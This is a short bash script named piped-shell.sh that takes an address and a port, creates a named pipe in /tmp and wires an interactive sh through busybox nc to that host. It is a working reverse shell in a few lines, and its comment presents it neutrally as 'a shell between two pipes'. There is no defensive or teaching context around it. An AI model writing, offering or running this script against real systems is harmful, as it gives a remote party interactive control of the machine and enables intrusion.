#!/bin/bash
# piped-shell.sh ADDRESS PORT: a shell between two pipes, with the connection held by nc.
mkfifo /tmp/f
(sh -i </tmp/f 2>&1 | busybox nc "$1" "$2" >/tmp/f) &
sleep 1
echo ready
wait
